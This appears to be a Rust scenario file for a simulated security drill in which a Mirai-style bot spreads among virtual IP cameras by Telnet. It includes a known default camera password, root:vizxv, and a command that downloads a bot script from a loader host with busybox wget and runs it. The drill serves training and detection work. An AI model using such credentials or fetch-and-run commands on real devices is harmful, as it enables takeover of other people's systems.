//! Mirai in a city: one camera of many was taken over, and looks for others by Telnet.

use super::net::{Net, PATIENCE, Process, has_said};
use super::{Post, Scene};
use crate::drills::clock::Moment;
use crate::run::{Done, Failure};

/// Cameras of the city; the first is the attacker's, the second has Telnet open with the password it was delivered with.
const CAMERAS: [(&str, &str, &str); 6] = [
    ("camera1", "44:19:b6:05:00:21", "10.50.0.21"),
    ("camera2", "44:19:b6:05:00:22", "10.50.0.22"),
    ("camera3", "44:19:b6:05:00:23", "10.50.0.23"),
    ("camera4", "44:19:b6:05:00:24", "10.50.0.24"),
    ("camera5", "44:19:b6:05:00:25", "10.50.0.25"),
    ("camera6", "44:19:b6:05:00:26", "10.50.0.26"),
];
const MASTER: &str = "198.51.100.68";
const LOADER: &str = "198.51.100.67";
const TARGET: &str = "198.51.100.200";

/// A login that asks for the one name and password, and then gives a shell.
const LOGIN: &str = r##"#!/bin/sh
printf 'camera login: '
read -r user
printf 'Password: '
stty -echo 2>/dev/null
read -r password
stty echo 2>/dev/null
if [ "$user:$password" = "root:vizxv" ]; then
  printf '\r\n'
  PS1='# ' exec busybox sh -i
fi
printf '\r\nLogin incorrect\r\n'
"##;

/// The city's network of cameras, with a recorder and a broker.
#[derive(Default)]
pub(super) struct City {
    parts: Vec<Process>,
    spreading: Option<Process>,
    master: Option<Process>,
    target: Option<Process>,
}

impl Scene for City {
    fn name(&self) -> &'static str {
        "mirai"
    }

    fn tools(&self) -> &'static [(&'static str, &'static str)] {
        &[
            ("telnetd", "inetutils-telnetd"),
            ("busybox", "busybox"),
            ("mosquitto", "mosquitto"),
            ("python3", "python3"),
        ]
    }

    fn build(&mut self, net: &Net) -> Done {
        net.switch("switch")?;
        net.router("gateway")?;
        net.port("gateway", "eth0", "switch", "00:0c:42:05:00:01", "10.50.0.1")?;
        net.outside("internet", "gateway", &[MASTER, LOADER, TARGET])?;
        net.host("recorder", "switch", "00:11:32:05:00:10", "10.50.0.10")?;
        net.host("broker", "switch", "b8:27:eb:05:00:11", "10.50.0.11")?;
        for host in ["recorder", "broker"] {
            net.gateway(host, "10.50.0.1")?;
        }
        for (name, mac, address) in CAMERAS {
            net.host(name, "switch", mac, address)?;
            net.gateway(name, "10.50.0.1")?;
            self.parts.push(net.play(name, &format!("web {address}:80"))?);
        }
        let settings = net.folder().join("mosquitto.conf");
        std::fs::write(&settings, "listener 1883 10.50.0.11\nallow_anonymous true\n")?;
        let mut mosquitto = net.command("broker", "mosquitto");
        let broker =
            net.serve("broker", "mosquitto", mosquitto.arg("-c").arg(settings), "10.50.0.11:1883")?;
        let login = net.folder().join("login.sh");
        std::fs::write(&login, LOGIN)?;
        let mut telnetd = net.peer("camera2", "inetd 10.50.0.22:23 telnetd -h -E");
        telnetd.arg(format!("/bin/sh {}", login.display()));
        let mut telnet = net.start("camera2-telnetd", &mut telnetd)?;
        telnet.expect("ready", PATIENCE)?;
        self.parts.extend([broker, telnet]);
        self.outside(net)
    }

    fn post(&self) -> Post {
        Post::switch("guard = [\"10.50.0.1\", \"10.50.0.10\", \"10.50.0.11\"]\n", "")
    }

    fn benign(&self) -> Vec<(&'static str, String)> {
        let watched = CAMERAS.iter().map(|(_, _, address)| ("recorder", format!("watch {address}:80")));
        let publishing = CAMERAS.iter().map(|(name, ..)| (*name, format!("publish 10.50.0.11:1883 {name}")));
        watched.chain(publishing).collect()
    }

    fn victims(&self) -> Vec<(&'static str, String)> {
        let ours = "10.50.0.21 10.50.0.22";
        let others = CAMERAS.iter().skip(2).map(|(name, ..)| (*name, ours.to_owned()));
        let telnet = ("camera2", "10.50.0.21".to_owned());
        others.chain([telnet, ("internet", ours.to_owned())]).collect()
    }

    fn attacker(&self) -> (&'static str, String) {
        ("camera1", "10.50.0.21 --except 80 --except 1883".to_owned())
    }

    fn attackers(&self) -> &'static [&'static str] {
        &["10.50.0.21", "10.50.0.22"]
    }

    fn steps(&self) -> &'static [&'static str] {
        &["Telnet found", "password guessed", "program loaded", "master called", "target flooded"]
    }

    fn begin(&mut self, net: &Net) -> Result<Moment, Failure> {
        let home = net.home("camera2")?;
        let command = format!(
            "cd {} && busybox wget -q -O bot http://{LOADER}/bot.sh && sh bot >/dev/null 2>&1 &",
            home.display()
        );
        let mut spread = net.peer("camera1", "mirai 10.50.0");
        let mut process = net.start("camera1-mirai", spread.arg(command))?;
        let first = process.expect("first", PATIENCE)?;
        self.spreading = Some(process);
        Ok(first.at)
    }

    fn attempt(&mut self, net: &Net, step: usize) -> Result<bool, Failure> {
        Ok(match step {
            0 => has_said(&mut self.spreading, "found"),
            1 => has_said(&mut self.spreading, "entered"),
            2 => std::fs::read(net.folder().join("camera2/bot")).is_ok_and(|bytes| !bytes.is_empty()),
            3 => has_said(&mut self.master, "called"),
            _ => has_said(&mut self.target, "flooded"),
        })
    }
}

impl City {
    /// The attacker's servers, and whom he attacks.
    fn outside(&mut self, net: &Net) -> Done {
        let pages = net.home("loader")?;
        // As long as the drill at most.
        let bot = format!("#!/bin/sh\nsleep 60 | {} peer bot {MASTER}:23\n", net.program().display());
        std::fs::write(pages.join("bot.sh"), bot)?;
        let mut server = net.command("internet", "python3");
        server.args(["-m", "http.server", "--bind", LOADER, "--directory"]).arg(&pages).arg("80");
        let server = net.serve("internet", "http", &mut server, &format!("{LOADER}:80"))?;
        self.parts.push(server);
        self.master = Some(net.play("internet", &format!("master {MASTER}:23 {TARGET}:9999"))?);
        self.target = Some(net.play("internet", &format!("sink {TARGET}:9999"))?);
        Ok(())
    }
}
